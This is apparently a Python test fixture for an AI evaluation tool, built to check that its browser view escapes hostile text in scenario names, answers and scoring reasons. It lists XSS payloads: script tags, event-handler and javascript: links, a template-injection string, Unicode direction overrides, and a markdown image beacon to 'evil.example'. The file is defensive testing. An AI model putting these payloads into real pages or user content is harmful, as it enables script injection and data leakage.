"""What the browser is shown: hostile texts wherever a text is somebody else's."""

from typing import Any

from cupel_core.domain.definitions.scenarios import Scenario
from cupel_core.domain.runs.run import Run
from cupel_core.domain.runs.transcripts import Summary
from cupel_core.domain.scoring.assertions import AssertionResult
from cupel_core.domain.scoring.scoring import Scoring, build_scoring
from cupel_core.domain.turns.model_request import Message, MessageRole
from tests.answered_runs import AnsweredRun
from tests.started_runs import NOW

PAYLOADS = (
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<svg/onload=alert(1)>",
    "[click](javascript:alert(1))",
    "![x](https://evil.example/x.png?data)",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "{{constructor.constructor('alert(1)')()}}",
    "<a href='data:text/html,<script>alert(1)</script>'>x</a>",
    "</script><script>alert(1)</script>",
    "<math><mi//xlink:href='data:x,<script>alert(1)</script>'>",
    "\u202e<b>reversed</b>\u200b",
)
HOSTILE = " ".join(PAYLOADS)
SCENARIOS = tuple(
    Scenario("", name, (Message(MessageRole.SYSTEM, "Be brief."), Message(MessageRole.USER, f"{name}?")))
    for name in ("Refund of a late order", "Allergy and a recipe", "A minor asks for advice", PAYLOADS[0], PAYLOADS[1])
)


def scoring(index: int) -> Scoring:
    passed = index % 3 != 1
    reason = "names the refund" if passed else f"does not name the refund: {PAYLOADS[index % len(PAYLOADS)]}"
    tag = None if passed else ("GOAL_MISS", "REFUSAL", PAYLOADS[0])[index % 4 % 3]
    return build_scoring(None, None, (AssertionResult("llm-rubric", passed, 1.0 if passed else 0.2, reason, tag=tag),))


def answer(index: int) -> str | None:
    return None if index == 7 else f"{PAYLOADS[index % len(PAYLOADS)]} answer {index}, and a sentence. " * 3


def sample_run(**changes: Any) -> Run:
    given: dict[str, Any] = {
        "workspace": "acme",
        "scenarios": SCENARIOS,
        "models": ("sim/steady", "sim/bold", "sim/contrarian"),
        "repeats": 4,
        "answer": answer,
        "scoring": scoring,
        "summary": Summary("2", "leans towards no", NOW),
    }
    return AnsweredRun(**{**given, **changes}).completed()
